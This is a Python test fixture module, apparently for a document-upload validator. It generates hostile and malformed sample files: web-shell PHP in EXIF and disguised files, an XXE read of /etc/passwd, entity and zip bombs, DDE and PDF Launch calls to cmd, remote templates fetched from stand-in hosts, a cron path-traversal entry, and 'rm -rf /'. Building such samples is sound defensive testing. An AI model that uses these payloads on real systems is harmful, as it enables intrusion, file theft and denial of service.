"""Bad files, made anew by the tests: one for each way in which a file can lie, hide, run, swell or be broken.

`PINTU` is refused before anything is stored, `KARANTINA` and `DITOLAK` by the worker; `BAIK` only looks odd and must
pass. Each entry: name of the case, file name, content as a function (made when needed), what the reason says.
"""

import io
import struct
import zlib
from collections.abc import Callable
from typing import NamedTuple

import pikepdf
from PIL import Image

from tests.bukti import bahan

N, D, A = pikepdf.Name, pikepdf.Dictionary, pikepdf.Array
#: In two pieces: a virus scanner on a developer's machine must not take this file away.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
MAKRO = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
PROGRAM, WEB, ASING = "sebenarnya program", "sebenarnya halaman web", "tidak dapat dikenali isinya"


class Kasus(NamedTuple):
    nama: str
    berkas: str
    isi: Callable[[], bytes]
    sebab: str


def kasus(nama: str, berkas: str, isi: Callable[[], bytes] | bytes, sebab: str = "") -> Kasus:
    return Kasus(nama, berkas, isi if callable(isi) else lambda: isi, sebab)


# --- Made by hand ------------------------------------------------------------------------------------------------
def hubungan(jenis: str, tujuan: str) -> str:
    satu = f'<Relationship Id="r1" Type="{MAKRO}{jenis}" Target="{tujuan}" TargetMode="External"/>'
    return f"<Relationships>{satu}</Relationships>"


def dengan_hubungan(jenis: str, tujuan: str) -> bytes:
    return bahan.docx(**{"word/_rels/document.xml.rels": hubungan(jenis, tujuan)})


def pdf_js() -> bytes:
    def buka(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = D(S=N.JavaScript, JS="app.alert(1)")

    return bahan.pdf(ubah=buka)


def pdf_anotasi(aksi: pikepdf.Object) -> bytes:
    def tempel(pdf: pikepdf.Pdf) -> None:
        pdf.pages[0].obj.Annots = A([D(Type=N.Annot, Subtype=N.Link, A=aksi)])

    return bahan.pdf(ubah=tempel)


def pdf_berlampiran() -> bytes:
    def lampirkan(pdf: pikepdf.Pdf) -> None:
        pdf.attachments["rahasia.exe"] = b"MZ"

    return bahan.pdf(ubah=lampirkan)


def pdf_dari_luar() -> bytes:
    def ambil(pdf: pikepdf.Pdf) -> None:
        pdf.pages[0].obj.Contents = pikepdf.Stream(pdf, b"", F="//jahat/berkas", FFilter=N.FlateDecode)

    return bahan.pdf(ubah=ambil)


def pdf_berjuta_halaman(jumlah: int) -> bytes:
    """Many pages in a small file: every leaf of the tree is the same object, as in a bomb, written by hand."""
    isi = [
        b"%PDF-1.4\n",
        b"1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n",
        b"2 0 obj<</Type/Pages/Count %d/Kids[%s]>>endobj\n" % (jumlah, b"3 0 R " * jumlah),
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\n",
    ]
    return _rangkai(isi)


def pdf_dalam(tingkat: int) -> bytes:
    isi = [
        b"%PDF-1.4\n",
        b"1 0 obj<</Type/Catalog/Pages 2 0 R/X " + b"[" * tingkat + b"]" * tingkat + b">>endobj\n",
        b"2 0 obj<</Type/Pages/Count 1/Kids[3 0 R]>>endobj\n",
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\n",
    ]
    return _rangkai(isi)


def pdf_berputar() -> bytes:
    """A tree of pages that contains itself."""
    isi = [
        b"%PDF-1.4\n",
        b"1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n",
        b"2 0 obj<</Type/Pages/Count 2/Kids[2 0 R 2 0 R]/Parent 2 0 R>>endobj\n",
    ]
    return _rangkai(isi)


def _rangkai(potongan: list[bytes]) -> bytes:
    keluaran, letak = bytearray(potongan[0]), []
    for objek in potongan[1:]:
        letak.append(len(keluaran))
        keluaran += objek
    awal = len(keluaran)
    keluaran += b"xref\n0 %d\n0000000000 65535 f \n" % (len(letak) + 1)
    keluaran += b"".join(b"%010d 00000 n \n" % satu for satu in letak)
    keluaran += b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(letak) + 1, awal)
    return bytes(keluaran)


def pdf_bergambar(lebar: int, tinggi: int, *, lapis: int = 1) -> bytes:
    """One page with a picture that claims this size, its bytes packed `lapis` times."""

    def gambarkan(pdf: pikepdf.Pdf) -> None:
        data = b"\0" * 1_000_000
        for _ in range(lapis):
            data = zlib.compress(data)
        saring = A([N.FlateDecode] * lapis)
        gambar = pikepdf.Stream(
            pdf, data, Type=N.XObject, Subtype=N.Image, Width=lebar, Height=tinggi, BitsPerComponent=8,
            ColorSpace=N.DeviceGray, Filter=saring,
        )  # fmt: skip
        pdf.pages[0].obj.Resources = D(XObject=D(G=gambar))
        pdf.pages[0].obj.Contents = pdf.make_stream(b"200 0 0 280 0 0 cm /G Do")

    return bahan.pdf(ubah=gambarkan)


def zip_bertingkat(tingkat: int = 3) -> bytes:
    isi = b"0" * 1_000_000
    for _ in range(tingkat):
        isi = bahan.arsip({f"{n}.zip": isi for n in range(4)})
    return isi


def arsip_bohong() -> bytes:
    """A part that unpacks to far more than the directory says."""
    isi = bytearray(bahan.xlsx(**{"xl/a.xml": b"0" * 40_000_000}))
    ukuran, bohong = struct.pack("<I", 40_000_000), struct.pack("<I", 1_000)
    return bytes(isi.replace(ukuran, bohong))


def gambar(format_: str, mode: str = "RGB", **simpan: object) -> bytes:
    keluaran = io.BytesIO()
    Image.effect_noise((400, 300), 60).convert(mode).save(keluaran, format_, **simpan)
    return keluaran.getvalue()


def jpeg_berphp() -> bytes:
    exif = Image.Exif()
    exif[0x010E] = "<?php system($_GET['c']); ?>"
    return gambar("JPEG", exif=exif)


def pdf_bertanda_tangan() -> bytes:
    def tanda(pdf: pikepdf.Pdf) -> None:
        nilai = D(Type=N.Sig, Filter=N("/Adobe.PPKLite"), ByteRange=A([0, 10, 20, 30]), Contents=b"\x30\x82" * 40)
        medan = pdf.make_indirect(D(FT=N.Sig, T="Tanda tangan", V=nilai))
        pdf.Root.AcroForm = D(Fields=A([medan]), SigFlags=3)

    return bahan.pdf(ubah=tanda)


def bom_ganda() -> bytes:
    """Two archives in one: some programs read the first, others the last."""
    return bahan.docx() + bahan.docx(**{"word/lain.xml": "<lain/>"})


UTF16 = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY b "ha">]><a>&b;</a>'.encode("utf-16")
TAWA = "<!DOCTYPE a [" + "".join(f'<!ENTITY h{n + 1} "{f"&h{n};" * 10}">' for n in range(9)) + "]><a>&h9;</a>"
XXE = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
DDE_TERPOTONG = "<w:p><w:instrText>DD</w:instrText><w:r/><w:instrText>EAUTO c:\\cmd</w:instrText></w:p>"
DDE_SEDERHANA = '<w:p><w:fldSimple w:instr="DDE cmd x"/></w:p>'

PINTU = [
    *(
        kasus(f"{apa} bernama .{akhiran}", f"surat.{akhiran}", isi + b"0" * 100, sebab)
        for apa, isi, sebab in [
            ("exe", b"MZ\x90\0", PROGRAM),
            ("elf", b"\x7fELF\x02", PROGRAM),
            ("skrip sh", b"#!/bin/sh\nrm -rf /\n", PROGRAM),
            ("php", b"<?php system('id'); ?>", ASING),
            ("jsp", b"<%@ page import=java.io %>", ASING),
            ("html", b"<!DOCTYPE html><script>1</script>", WEB),
            ("hta", b"<html><hta:application/>", WEB),
            ("svg onload", b'<svg onload="x()">', WEB),
            ("svg foreignObject", b"<svg><foreignObject/></svg>", WEB),
            ("svg xlink", b'<?xml version="1.0"?><svg xlink:href="x"/>', WEB),
            ("js", b"eval(atob('x'))", ASING),
            ("bat", b"@echo off\r\ndel *", ASING),
            ("lnk", b"L\0\0\0\x01\x14\x02\0", ASING),
        ]
        for akhiran in ("pdf", "jpg", "png", "docx", "xlsx")
    ),
    kasus("0 bita", "sk.pdf", b"", "kosong (0 bita)"),
    kasus("1 bita", "sk.pdf", b"%", ASING),
    kasus("HEIC", "foto.jpg", b"\0\0\0\x18ftypheic" + b"0" * 60, "sebenarnya foto HEIC"),
    kasus("PDF+ZIP", "sk.pdf", lambda: bahan.pdf() + bahan.arsip({"a": "b"}), "memuat arsip ZIP di dalam PDF"),
    kasus(
        "PNG+ZIP", "a.png", lambda: bahan.gambar("PNG") + bahan.arsip({"a": "b"}), "memuat arsip ZIP di dalam gambar"
    ),
    kasus("HTML+PDF", "sk.pdf", lambda: b"<html>" + bahan.pdf(), WEB),
    kasus("kepala PDF di bita 900", "sk.pdf", lambda: b" x" * 450 + bahan.pdf(), ASING),
    kasus("GIF+JS", "a.png", b"GIF89a=1;alert(1)//" + b"0" * 80, ASING),
    kasus("MP4+PDF", "a.pdf", lambda: b"\0\0\0\x20ftypisom" + bahan.pdf(), ASING),
    kasus("dua arsip", "a.docx", bom_ganda, "memuat isi lain di luar arsipnya"),
    kasus("ekor di belakang arsip", "a.docx", lambda: bahan.docx() + b"<script>1</script>", "memuat isi lain di luar"),
    kasus("PDF terkunci", "sk.pdf", bahan.pdf_terkunci, "dikunci kata sandi"),
    kasus("20.000 halaman", "sk.pdf", lambda: pdf_berjuta_halaman(20_000), "berisi 20000 halaman, lebih dari 3000"),
    kasus("pohon halaman berputar", "sk.pdf", pdf_berputar, ""),
    kasus("pohon objek dalam", "sk.pdf", lambda: pdf_dalam(100_000), ""),
    kasus("400 megapiksel", "a.png", lambda: bahan.png_palsu(20_000, 20_000), "bergambar terlalu besar"),
    kasus("30.000 x 30.000", "a.png", lambda: bahan.png_palsu(30_000, 30_000), "bergambar terlalu besar"),
    kasus("zip 42", "a.xlsx", zip_bertingkat, "sebenarnya arsip ZIP"),
    kasus("lembar 2 GB", "a.xlsx", lambda: lembar_besar(), "membesar tidak wajar"),
    kasus(
        "100.000 bagian", "a.xlsx", lambda: bahan.xlsx(**{f"x{n}": "" for n in range(5_001)}), "berisi lebih dari 5000"
    ),
    kasus("XLSM", "a.xlsx", lambda: bahan.office(bahan.XLSM_UTAMA, "xl/workbook.xml"), "memuat makro"),
    kasus("vbaProject", "a.docx", lambda: bahan.docx(**{"word/vbaProject.bin": b"x"}), "memuat makro"),
    kasus("ActiveX", "a.docx", lambda: bahan.docx(**{"word/activeX/a.bin": b"x"}), "memuat makro"),
    kasus(
        "jalur keluar", "a.docx", lambda: bahan.docx(**{"../../etc/cron.d/x": "x"}), "memuat nama bagian yang berbahaya"
    ),
]


def lembar_besar() -> bytes:
    """A sheet that says of itself to be 2 GB."""
    isi = bytearray(bahan.xlsx(**{"xl/worksheets/sheet1.xml": b"0" * 1_000_000}))
    return bytes(isi.replace(struct.pack("<I", 1_000_000), struct.pack("<I", 2_000_000_000)))


KARANTINA = [
    kasus("PDF JavaScript", "sk.pdf", pdf_js, "memuat JavaScript"),
    kasus("PDF tautan javascript:", "sk.pdf", lambda: pdf_anotasi(D(S=N.URI, URI="javascript:x")), "memuat JavaScript"),
    kasus("PDF launch", "sk.pdf", lambda: pdf_anotasi(D(S=N.Launch, F="cmd.exe")), "memuat perintah untuk menjalankan"),
    kasus("PDF berlampiran", "sk.pdf", pdf_berlampiran, "memuat berkas lain di dalamnya"),
    kasus("PDF GoToE", "sk.pdf", lambda: pdf_anotasi(D(S=N.GoToE)), "memuat berkas lain di dalamnya"),
    kasus("PDF jaringan", "sk.pdf", lambda: pdf_anotasi(D(S=N.GoToR, F=r"\\jahat\a.pdf")), "diambil dari jaringan"),
    kasus("PDF isi dari luar", "sk.pdf", pdf_dari_luar, "diambil dari jaringan"),
    kasus("PDF gigapiksel", "sk.pdf", lambda: pdf_bergambar(40_000, 40_000), "memuat gambar yang terlalu besar"),
    kasus("templat luar", "a.docx", lambda: dengan_hubungan("attachedTemplate", "http://x.test/a.dotm"), "dari luar"),
    kasus("templat SMB", "a.docx", lambda: dengan_hubungan("attachedTemplate", r"\\jahat\a.dotm"), "dari luar"),
    kasus("gambar SMB", "a.docx", lambda: dengan_hubungan("image", r"file:///\\jahat\a.png"), "dari luar"),
    kasus("OLE luar", "a.docx", lambda: dengan_hubungan("oleObject", "http://x.test/a"), "dari luar"),
    kasus(
        "OLE di dalam", "a.docx", lambda: bahan.docx(**{"word/e/o.bin": b"\xd0\xcf\x11\xe0" + b"0" * 99}), "objek OLE"
    ),
    kasus(
        "exe di dalam", "a.xlsx", lambda: bahan.xlsx(**{"xl/media/a.png": b"MZ\x90\0" + b"0" * 99}), "memuat program"
    ),
    kasus("DDE", "a.docx", lambda: bahan.docx(**{"word/a.xml": DDE_TERPOTONG}), "(DDE)"),
    kasus("DDE sederhana", "a.docx", lambda: bahan.docx(**{"word/a.xml": DDE_SEDERHANA}), "(DDE)"),
    kasus("DDE Excel", "a.xlsx", lambda: bahan.xlsx(**{"xl/externalLinks/e.xml": "<ddeLink/>"}), "(DDE)"),
    kasus("XXE", "a.docx", lambda: bahan.docx(**{"word/a.xml": XXE}), "definisi XML"),
    kasus("XXE UTF-16", "a.docx", lambda: bahan.docx(**{"word/a.xml": UTF16}), "definisi XML"),
    kasus("seribu tawa", "a.xlsx", lambda: bahan.xlsx(**{"xl/a.xml": TAWA}), "definisi XML"),
    kasus("zip dalam XLSX", "a.xlsx", lambda: bahan.xlsx(**{"xl/a.bin": zip_bertingkat(1)}), "arsip di dalam arsip"),
    kasus("makro di dalam", "a.docx", lambda: bahan.docx(**{"word/e/a.xlsx": makro()}), "arsip di dalam arsip"),
    kasus("tiga tingkat", "a.docx", lambda: bahan.docx(**{"word/e/a.xlsx": bertingkat()}), "arsip di dalam arsip"),
]


def makro() -> bytes:
    return bahan.xlsx(**{"xl/vbaProject.bin": b"x"})


def bertingkat() -> bytes:
    return bahan.xlsx(**{"xl/e/b.xlsx": bahan.xlsx()})


DITOLAK = [
    kasus("arsip berbohong", "a.xlsx", arsip_bohong, "rusak, sehingga tidak dapat dibaca seluruhnya"),
]

BAIK = [
    kasus("PDF+HTML", "sk.pdf", lambda: bahan.pdf().replace(b"%%EOF", b"%<script>alert(1)</script>\n%%EOF")),
    kasus("JPEG+PHP dalam EXIF", "foto.jpg", jpeg_berphp),
    kasus("PDF berkunci pemilik", "sk.pdf", lambda: bahan.pdf(encryption=pikepdf.Encryption(owner="x", user=""))),
    kasus("PDF bertanda tangan", "sk.pdf", pdf_bertanda_tangan),
    kasus("PDF rantai deflate", "sk.pdf", lambda: pdf_bergambar(1_000, 1_000, lapis=5)),
    kasus("PDF bergambar 400 megapiksel", "sk.pdf", lambda: pdf_bergambar(20_000, 20_000)),
    kasus("JPEG CMYK", "foto.jpg", lambda: gambar("JPEG", "CMYK")),
    kasus("JPEG tanpa EXIF", "foto.jpg", lambda: gambar("JPEG")),
    kasus("PNG berpalet tembus", "a.png", lambda: gambar("PNG", "P", transparency=0)),
    kasus("PNG 16 bit", "a.png", lambda: gambar("PNG", "I;16")),
    kasus("WebP bergerak", "a.webp", lambda: webp_bergerak()),
    kasus("grafik Excel dalam Word", "a.docx", lambda: bahan.docx(**{"word/embeddings/a.xlsx": bahan.xlsx()})),
    kasus("templat di cakram sendiri", "a.docx", lambda: dengan_hubungan("attachedTemplate", "file:///C:\\a.dotm")),
    kasus("tautan biasa", "a.docx", lambda: dengan_hubungan("hyperlink", "https://jdih.contoh.test")),
    kasus("XML yang cacat", "a.docx", lambda: bahan.docx(**{"customXml/a.xml": "<a><b></a>"})),
]


def webp_bergerak() -> bytes:
    keluaran = io.BytesIO()
    satu, *lain = (Image.new("RGB", (60, 40), (n * 2, 0, 99)) for n in range(100))
    satu.save(keluaran, "WEBP", save_all=True, append_images=lain)
    return keluaran.getvalue()
